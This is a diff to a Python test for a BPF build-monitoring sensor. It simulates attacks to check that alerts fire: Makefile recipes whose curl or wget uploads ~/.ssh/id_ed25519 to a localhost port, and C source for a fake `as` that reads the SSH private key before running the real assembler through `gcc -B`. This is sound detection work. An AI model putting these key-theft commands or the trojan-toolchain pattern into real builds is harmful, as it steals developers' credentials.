@@ -14,12 +14,19 @@ into a static library, and a small program linked against it.
   2. learning: clean + rebuild, LEARN_BUILDS times; then one more clean build:
      still no Warning;
   3. a Makefile whose link recipe also runs `sh -c 'curl ... -T ~/.ssh/id_ed25519'`
-     (to 127.0.0.1 on a closed port): "Build tool ran a network tool" for that
-     curl, its ancestry naming make;
+     (to 127.0.0.1 on a closed port): "Build step sent data out with a network
+     tool" (Warning) for that curl, its ancestry naming make; the same with
+     `wget --post-file`; and a recipe that only fetches (curl URL): "Build tool
+     ran a network tool", Notice, and not the Warning;
   4. a Makefile whose recipe runs a binary the build never ran (tac): "Build
      tool executed a new binary" for it, its ancestry naming make;
   5. python3 copies /bin/true into a memfd and execs it: "Fileless or deleted
-     executable" for that pid, at exec.
+     executable" for that pid, at exec;
+  6. a fake `as` (a new ELF owned by an ordinary user that reads the private
+     key, then execs the real as) found through `gcc -B DIR/`: under make
+     (CC="gcc -B DIR/"), and with gcc run directly after it was learned
+     running directly: "Build tool executed a new binary", Warning, for the
+     fake as, each time (its parent gcc; under make its ancestry names make).
 
 Alerts are attributed to the test's own processes through the records' ppid
 links from each make (other work on the machine is not the test's).
@@ -37,6 +44,10 @@ import time
 
 SENSOR, SRC = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
 LEARN_BUILDS = 2
+DIRECT_LEARN = 12  # direct gcc runs: 2 children each, over the 20 draws a set needs
+SENT = "Build step sent data out with a network tool"
+FETCHED = "Build tool ran a network tool"
+NEW_BIN = "Build tool executed a new binary"
 SET_QUIET_S = 3
 WARN = 4  # severity: Warning (lower is more severe)
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
@@ -79,6 +90,41 @@ def Sensor(d):
     return _Sensor(d, "sensor", SENSOR, extra=("--process-records", "--set-quiet", str(SET_QUIET_S)))
 
 
+FAKE_AS = r"""
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <unistd.h>
+int main(int argc, char **argv)
+{
+	char p[4096], buf[4096];
+	(void)argc;
+	snprintf(p, sizeof(p), "%s/.ssh/id_ed25519", getenv("HOME") ? getenv("HOME") : "/root");
+	int fd = open(p, O_RDONLY);
+	if (fd >= 0) {
+		(void)!read(fd, buf, sizeof(buf));
+		close(fd);
+	}
+	execv("/usr/bin/as", argv);
+	return 127;
+}
+"""
+
+
+def fake_as(d, name):
+    """A fake `as` in D/NAME/, owned by nobody (an ordinary user's build
+    planted it: not a binary only root could have placed)."""
+    fdir = os.path.join(d, name)
+    os.makedirs(fdir)
+    src = os.path.join(d, "fake_as.c")
+    with open(src, "w") as f:
+        f.write(FAKE_AS + f'const char *tag = "{name}";\n')  # its own content: its own binary
+    path = os.path.join(fdir, "as")
+    subprocess.run(["gcc", "-O1", "-o", path, src], check=True)
+    os.chown(path, 65534, 65534)
+    return os.path.realpath(path)
+
+
 def alerts_of(recs, pids):
     return [r for r in recs if r.get("type") == "alert" and r.get("pid") in pids]
 
@@ -117,7 +163,7 @@ def check_chain(a, want_exe_name):
 
 def main():
     sl.need_bpf("the sensor loads BPF")
-    for tool in ("make", "gcc", "ar", "curl", "tac"):
+    for tool in ("make", "gcc", "ar", "curl", "wget", "tac"):
         if not shutil.which(tool):
             skip(f"no {tool}")
     if not hasattr(os, "memfd_create"):
@@ -189,13 +235,28 @@ def main():
         time.sleep(SET_QUIET_S + 0.5)  # the builds' sets of children stop growing: ready
 
         # 3. a recipe runs curl through sh -c, posting a private key
-        makefile(extra_link=" && sh -c 'curl -s -m 2 -T $$HOME/.ssh/id_ed25519 http://127.0.0.1:9/ || true'")
+        for tool, cmd in (("curl", "curl -s -m 2 -T $$HOME/.ssh/id_ed25519 http://127.0.0.1:9/"),
+                          ("wget", "wget -q -T 2 -t 1 --post-file=$$HOME/.ssh/id_ed25519 http://127.0.0.1:9/")):
+            makefile(extra_link=f" && sh -c '{cmd} || true'")
+            make(proj, env, sensor, ["clean"])
+            roots.append(make(proj, env, sensor, []))
+            a, recs = wait_alert(sensor, roots[-1:], SENT)
+            chain = check_chain(a, tool)
+            if a["severity"] > WARN:
+                fail(f"'{SENT}' at severity {a['severity']}, not Warning or above")
+            if [x for x in alerts_of(recs, {a["pid"]}) if x["rule"] == FETCHED]:
+                fail(f"{tool} sending a key also raised '{FETCHED}'")
+            tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
+            log(f"'{SENT}' for {tool} pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")
+        # a fetch is a Notice, not the Warning
+        makefile(extra_link=" && sh -c 'curl -s -m 2 -o /dev/null http://127.0.0.1:9/dep.tar.gz || true'")
         make(proj, env, sensor, ["clean"])
         roots.append(make(proj, env, sensor, []))
-        a, recs = wait_alert(sensor, roots[-1:], "Build tool ran a network tool")
+        a, recs = wait_alert(sensor, roots[-1:], FETCHED)
         chain = check_chain(a, "curl")
-        tta = (a["time_ns"] - exec_time(recs, a["pid"])) / 1e6
-        log(f"'Build tool ran a network tool' for pid {a['pid']} ({chain}), time-to-alert {tta:.0f} ms")
+        if a["severity"] <= WARN or [x for x in alerts_of(recs, {a["pid"]}) if x["rule"] == SENT]:
+            fail(f"a plain fetch raised severity {a['severity']} or '{SENT}'")
+        log(f"'{FETCHED}' (severity {a['severity']}) for a plain fetch, pid {a['pid']} ({chain})")
 
         # 4. a recipe runs a binary the build never ran
         makefile(extra_obj=" && tac /dev/null")
@@ -231,6 +292,41 @@ def main():
         tta = (a["time_ns"] - rec["time_ns"]) / 1e6
         log(f"'Fileless or deleted executable' for pid {mpid} (exe {rec['exe']}, binary {rec.get('binary_id')}), "
             f"time-to-alert {tta:.0f} ms")
+
+        # 6. a fake `as` through gcc -B: under make, then gcc run directly
+        fake = fake_as(d, "fake")
+        makefile()
+        make(proj, env, sensor, ["clean"])
+        roots.append(make(proj, env, sensor, [f"CC=gcc -B{os.path.dirname(fake)}/"]))
+        a, recs = wait_alert(sensor, roots[-1:], NEW_BIN)
+        chain = check_chain(a, "as")
+        if a.get("exe") != fake or a["severity"] > WARN:
+            fail(f"'{NEW_BIN}' under make is for {a.get('exe')} at severity {a['severity']}, expected {fake}")
+        log(f"'{NEW_BIN}' for the fake as under make, pid {a['pid']} ({chain}), time-to-alert "
+            f"{(a['time_ns'] - exec_time(recs, a['pid'])) / 1e6:.0f} ms")
+        direct = os.path.join(d, "direct")
+        os.makedirs(direct)
+        with open(os.path.join(direct, "t.c"), "w") as f:
+            f.write("int t(void) { return 1; }\n")
+        gcc = ["gcc", "-c", "t.c", "-o", "t.o"]
+        for _ in range(DIRECT_LEARN):  # gcc's baseline, run by this test, learns cc1 and as
+            subprocess.run(gcc, cwd=direct, env=env, check=True)
+        time.sleep(SET_QUIET_S + 0.5)
+        fake = fake_as(d, "fake2")  # another binary: the rule's throttle is per binary
+        p = subprocess.Popen(gcc[:1] + [f"-B{os.path.dirname(fake)}/"] + gcc[1:], cwd=direct, env=env)
+        if p.wait(timeout=30) != 0:
+            fail("gcc -B with the fake as failed")
+        a, recs = wait_alert(sensor, [p.pid], NEW_BIN)
+        ppid = next((r.get("ppid") for r in recs if r.get("type") == "exec" and r.get("pid") == a["pid"]), None)
+        if a.get("exe") != fake or a["severity"] > WARN or ppid != p.pid:
+            fail(f"'{NEW_BIN}' for direct gcc is for {a.get('exe')} (ppid {ppid}) at severity "
+                 f"{a['severity']}, expected {fake} under gcc pid {p.pid}")
+        direct_loud = [x for x in alerts_of(recs, tree(recs, [p.pid])) if x["severity"] <= WARN and x is not a
+                       and x["rule"] != NEW_BIN]
+        if direct_loud:
+            fail(f"other alerts on the direct gcc: {[(x['rule'], x['exe']) for x in direct_loud]}")
+        log(f"'{NEW_BIN}' for the fake as under a direct gcc, pid {a['pid']}, time-to-alert "
+            f"{(a['time_ns'] - exec_time(recs, a['pid'])) / 1e6:.0f} ms")
         if first_loud:
             fail(f"alerts at Warning or above on the first build: {first_loud}")
         ok = True
